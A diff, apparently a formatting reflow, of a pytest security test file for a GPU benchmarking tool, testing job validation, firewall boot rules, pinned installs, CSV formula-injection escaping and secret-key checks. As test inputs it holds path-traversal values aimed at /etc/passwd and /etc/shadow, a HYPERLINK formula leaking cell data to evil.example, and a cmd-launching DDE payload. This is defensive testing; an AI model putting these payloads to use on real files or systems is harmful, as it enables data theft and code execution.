@@ -2,6 +2,7 @@
 body limit (real aiohttp server, real HTTP), the boot script's firewall (run by bash with the rule
 commands stubbed), the agent image and its pip installs, CSV formula injection in the reports,
 durable atomic writes, and the installation secret."""
+
 from __future__ import annotations
 
 import asyncio
@@ -29,6 +30,7 @@ KEY = "small-items-key-0123456789abcdef"
 
 # --- the node agent -------------------------------------------------------------------------------
 
+
 class _NoBench(Agent):
     """The real agent with the benchmark process replaced by a record of what it would run."""
 
@@ -49,6 +51,7 @@ def agent(tmp_path):
         s.bind(("127.0.0.1", 0))
         port = s.getsockname()[1]
     from aiohttp import web
+
     runner = web.AppRunner(build_app(a), access_log=None)
     started = threading.Event()
 
@@ -71,8 +74,16 @@ def agent(tmp_path):
 
 
 def _job(**kw):
-    return {"job_id": "t-0123456789ab", "run_id": "r", "target": "t", "model": "m", "gpus": 1,
-            "workloads": [{"name": "w"}], "files": {}, **kw}
+    return {
+        "job_id": "t-0123456789ab",
+        "run_id": "r",
+        "target": "t",
+        "model": "m",
+        "gpus": 1,
+        "workloads": [{"name": "w"}],
+        "files": {},
+        **kw,
+    }
 
 
 @pytest.mark.parametrize("job_id", ["..", ".", ".hidden", "ok\n"])
@@ -86,8 +97,9 @@ def test_agent_refuses_job_ids_that_are_not_plain_names(agent, job_id):
 @pytest.mark.parametrize("path", ["/etc/passwd", "../../../etc/shadow", "w0-source_path/../../x", "missing.jsonl"])
 def test_agent_refuses_workload_paths_that_are_not_the_jobs_own_files(agent, path):
     a, client, _ = agent
-    r = client.post("/agent/jobs", json=_job(workloads=[{"name": "w", "source_path": path}],
-                                             files={"w0-source_path.jsonl": "{}\n"}))
+    r = client.post(
+        "/agent/jobs", json=_job(workloads=[{"name": "w", "source_path": path}], files={"w0-source_path.jsonl": "{}\n"})
+    )
     assert r.status_code == 400
     assert "workloads[0].source_path" in r.json()["error"] and "not one of the job's files" in r.json()["error"]
     assert a.jobs == {} and a.benched == []
@@ -148,6 +160,7 @@ SMALL = 512 * 1024
 def small_limit(monkeypatch):
     """A 0.5 MiB limit at both ends (the agent's app is built after this), so the test stays small."""
     from bakeoff.agent import server
+
     monkeypatch.setattr(agent_job, "MAX_JOB_BYTES", SMALL)
     monkeypatch.setattr(server, "MAX_JOB_BYTES", SMALL)
     return SMALL
@@ -158,30 +171,38 @@ def test_what_the_agent_would_refuse_is_refused_before_launch_naming_the_field(s
     a, client, tmp = agent
     small = small_limit
     plan = _colocated_plan(workloads, small + 1024)
-    with pytest.raises(PlanError, match=r"workloads\[0\]\.source_path: .* over the node agent's 0\.5 MiB limit.*"
-                                        r"client_mode: remote"):
+    with pytest.raises(
+        PlanError,
+        match=r"workloads\[0\]\.source_path: .* over the node agent's 0\.5 MiB limit.*"
+        r"client_mode: remote",
+    ):
         agent_job.preflight(plan)
     t = next(t for t in plan.targets if t.client_mode == "co-located")
     with pytest.raises(PlanError, match=r"workloads\[0\]\.source_path"):
         agent_job.build_job(plan, t, _Endpoint(), "manual__1")
+
     # and the agent holds the same line: just under it is accepted, just over it is refused
     def sized(n):
         j = _job(files={"w0-source_path.jsonl": ""}, workloads=[{"name": "w", "source_path": "w0-source_path.jsonl"}])
         j["files"]["w0-source_path.jsonl"] = "x" * (n - agent_job.encoded_size(j))
         assert agent_job.encoded_size(j) == n
         return j
+
     assert client.post("/agent/jobs", json={**sized(small + 100), "job_id": "over"}).status_code == 413
     assert "over" not in a.jobs
     assert client.post("/agent/jobs", json={**sized(small), "job_id": "at"}).status_code == 202
 
 
-def test_start_run_refuses_an_oversize_co_located_plan_before_recording_anything(tmp_path, data_root, monkeypatch,
-                                                                                   workloads):
+def test_start_run_refuses_an_oversize_co_located_plan_before_recording_anything(
+    tmp_path, data_root, monkeypatch, workloads
+):
     from bakeoff import pipeline
+
     monkeypatch.setattr(agent_job, "MAX_JOB_BYTES", 256 * 1024)
     plan = _colocated_plan(workloads, 300 * 1024)
     ref = tmp_path / "big.yaml"
     import yaml
+
     ref.write_text(yaml.safe_dump(plan.model_dump(mode="json")))
     with pytest.raises(PlanError, match=r"workloads\[0\]\.source_path"):
         pipeline.start_run(str(ref), "manual__big")
@@ -189,6 +210,7 @@ def test_start_run_refuses_an_oversize_co_located_plan_before_recording_anything
 
 
 # --- the boot script's firewall ---------------------------------------------------------------------
+
 
 def _target():
     raw = load_plan("mi355x-vs-b200-sandbox").model_dump(mode="json")
@@ -217,19 +239,19 @@ done
     script = "\n".join(lines[:1] + [stubs] + lines[1:])
     out = subprocess.run(["bash", "-c", script], capture_output=True, text=True, timeout=60)
     console = (tmp / "console").read_text() if (tmp / "console").exists() else ""
-    return (out.returncode, out.stdout + out.stderr + console,
-            calls.read_text().splitlines() if calls.exists() else [])
+    return (out.returncode, out.stdout + out.stderr + console, calls.read_text().splitlines() if calls.exists() else [])
 
 
 @pytest.mark.parametrize("failing", ["ip6tables .* -j DROP", "-s 127.0.0.1 -j ACCEPT", f"--dport {AGENT_PORT} -j DROP"])
 def test_a_failed_firewall_rule_stops_the_boot_before_anything_listens(tmp_path, failing):
     agent = {"url": "https://b.example/c.zip", "sha256": "a" * 64, "requirements": ["httpx==0.28.1"]}
-    script = userdata.render(_target(), api_key=KEY, shutdown_after_s=3600, ingress_cidr="203.0.113.7/32",
-                             agent=agent, expires_at=1.9e9)
+    script = userdata.render(
+        _target(), api_key=KEY, shutdown_after_s=3600, ingress_cidr="203.0.113.7/32", agent=agent, expires_at=1.9e9
+    )
     if not os.path.exists("/proc/net/if_inet6") and failing.startswith("ip6tables"):
         pytest.skip("no IPv6 on this host: ip6tables rules are skipped by design")
     (tmp_path / "ok").mkdir()
-    code, out, calls = _run_boot(script, tmp_path / "ok", "^$")      # every rule in place: the boot goes on
+    code, out, calls = _run_boot(script, tmp_path / "ok", "^$")  # every rule in place: the boot goes on
     assert "firewall for port" not in out and [c for c in calls if c.startswith("docker run")], (out, calls)
     code, out, calls = _run_boot(script, tmp_path, failing)
     assert code != 0
@@ -239,6 +261,7 @@ def test_a_failed_firewall_rule_stops_the_boot_before_anything_listens(tmp_path,
 
 
 # --- the agent image and its installs ---------------------------------------------------------------
+
 
 def test_the_agent_image_is_pinned_by_digest_and_a_tag_is_refused(monkeypatch):
     assert re.fullmatch(r"python:3\.11-slim-bookworm@sha256:[0-9a-f]{64}", catalog.agent_image())
@@ -250,11 +273,14 @@ def test_the_agent_image_is_pinned_by_digest_and_a_tag_is_refused(monkeypatch):
 def test_the_node_installs_with_require_hashes_from_the_bundle():
     agent = {"url": "https://b.example/c.zip", "sha256": "a" * 64, "requirements": ["httpx==0.28.1"]}
     script = userdata.render(_target(), api_key=KEY, shutdown_after_s=3600, ingress_cidr=None, agent=agent)
-    assert (f"pip install --no-cache-dir --quiet --require-hashes --only-binary=:all: "
-            f"-r /opt/bakeoff/client/{bundle.HASHES_IN_BUNDLE}") in script
+    assert (
+        f"pip install --no-cache-dir --quiet --require-hashes --only-binary=:all: "
+        f"-r /opt/bakeoff/client/{bundle.HASHES_IN_BUNDLE}"
+    ) in script
     assert "pip install --no-cache-dir --quiet httpx" not in script
     import io
     import zipfile
+
     data, _ = bundle.build()
     text = zipfile.ZipFile(io.BytesIO(data)).read(bundle.HASHES_IN_BUNDLE).decode()
     lines = [ln for ln in text.splitlines() if ln and not ln.startswith("#")]
@@ -276,17 +302,22 @@ EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 
 def test_report_csvs_carry_no_formula_and_keep_negative_numbers(tmp_path, data_root):
     import sys
+
     sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "report"))
     import synthetic
     from bakeoff.cost import cost_run
     from bakeoff.report import build_report
+
     plan = synthetic.make_plan(names=("mi355x-vllm", "+cmd|' /C calc'!A0", "@SUM(1+1)"))
     rdir = synthetic.make_run(tmp_path / "results", plan, quarantine={plan.targets[1].slug})
-    store.write_json(rdir / "validation.json", {"passed": False, "targets": {
-        t.slug: {"passed": False, "failures": [EVIL, "-2+3"]} for t in plan.targets}})
+    store.write_json(
+        rdir / "validation.json",
+        {"passed": False, "targets": {t.slug: {"passed": False, "failures": [EVIL, "-2+3"]} for t in plan.targets}},
+    )
     cost_run(plan, rdir)
     paths = build_report(plan, rdir, tmp_path / "out")
     import csv
+
     for kind, p in paths.items():
         if not kind.startswith("csv_"):
             continue
@@ -294,8 +325,9 @@ def test_report_csvs_carry_no_formula_and_keep_negative_numbers(tmp_path, data_r
             for cell in row:
                 assert not cell.startswith(("=", "+", "@", "\t", "\r")), (kind, cell)
                 if cell.startswith("-"):
-                    float(cell)           # only a number may start with '-'
+                    float(cell)  # only a number may start with '-'
     from bakeoff.report.csvsafe import safe_frame
+
     df = safe_frame(pd.DataFrame({"n": [-1.5, 2.0], "s": ["-3", EVIL], "t": ["\t=1", "ok"]}))
     assert df["n"].tolist() == [-1.5, 2.0] and df["s"].tolist() == ["-3", "'" + EVIL]
     assert df["t"].tolist() == ["'\t=1", "ok"]
@@ -303,33 +335,41 @@ def test_report_csvs_carry_no_formula_and_keep_negative_numbers(tmp_path, data_r
 
 # --- durable atomic writes ----------------------------------------------------------------------------
 
+
 def test_atomic_writes_fsync_the_file_before_rename_and_the_directory_after(tmp_path, monkeypatch):
     from bakeoff import publish
+
     events = []
     real_fsync, real_replace = os.fsync, os.replace
-    monkeypatch.setattr(os, "fsync", lambda fd: (events.append(("fsync", os.readlink(f"/proc/self/fd/{fd}"))),
-                                                 real_fsync(fd))[1])
+    monkeypatch.setattr(
+        os, "fsync", lambda fd: (events.append(("fsync", os.readlink(f"/proc/self/fd/{fd}"))), real_fsync(fd))[1]
+    )
     monkeypatch.setattr(os, "replace", lambda a, b: (events.append(("replace", str(b))), real_replace(a, b))[1])
-    writers = {"store.write_json": lambda p: store.write_json(p, {"a": 1}),
-               "store.write_frame": lambda p: store.write_frame(p, pd.DataFrame({"a": [1]})),
-               "publish._atomic_text": lambda p: publish._atomic_text(p, "x")}
+    writers = {
+        "store.write_json": lambda p: store.write_json(p, {"a": 1}),
+        "store.write_frame": lambda p: store.write_frame(p, pd.DataFrame({"a": [1]})),
+        "publish._atomic_text": lambda p: publish._atomic_text(p, "x"),
+    }
     for name, write in writers.items():
         events.clear()
         target = tmp_path / name / "doc"
         write(target)
         i = next(i for i, e in enumerate(events) if e == ("replace", str(target)))
-        before, after = events[:i], events[i + 1:]
-        assert any(e[0] == "fsync" and Path(e[1]).parent == target.parent and e[1] != str(target) for e in before), \
-            (name, events)
+        before, after = events[:i], events[i + 1 :]
+        assert any(e[0] == "fsync" and Path(e[1]).parent == target.parent and e[1] != str(target) for e in before), (
+            name,
+            events,
+        )
         assert ("fsync", str(target.parent)) in after, (name, events)
 
 
 # --- the installation secret --------------------------------------------------------------------------
 
+
 @pytest.mark.parametrize("value", ["", "short", "x" * 31])
 def test_a_short_installation_secret_in_the_environment_is_refused(monkeypatch, value):
     monkeypatch.setenv("BAKEOFF_SECRET_KEY", "k" * 32)
-    assert secrets.api_key("r", "t").startswith("bk-")          # 32 bytes is enough
+    assert secrets.api_key("r", "t").startswith("bk-")  # 32 bytes is enough
     monkeypatch.setenv("BAKEOFF_SECRET_KEY", value)
     with pytest.raises(ValueError, match=r"BAKEOFF_SECRET_KEY: .*at least 32 bytes.*token_hex"):
         secrets.api_key("r", "t")
@@ -339,10 +379,11 @@ def test_a_short_installation_secret_in_the_environment_is_refused(monkeypatch, 
 def test_an_empty_or_short_secret_key_file_is_refused(monkeypatch, data_root, value):
     monkeypatch.delenv("BAKEOFF_SECRET_KEY", raising=False)
     from bakeoff.paths import state_root
+
     path = state_root() / "secret.key"
     path.parent.mkdir(parents=True, exist_ok=True)
     path.write_text(value)
     with pytest.raises(ValueError, match=r"secret.key: .*at least 32 bytes.*(delete it|token_hex)"):
         secrets.api_key("r", "t")
-    path.unlink()                                                 # deleted: a fresh one is generated
+    path.unlink()  # deleted: a fresh one is generated
     assert secrets.api_key("r", "t") == secrets.api_key("r", "t") and len(path.read_text().strip()) == 64
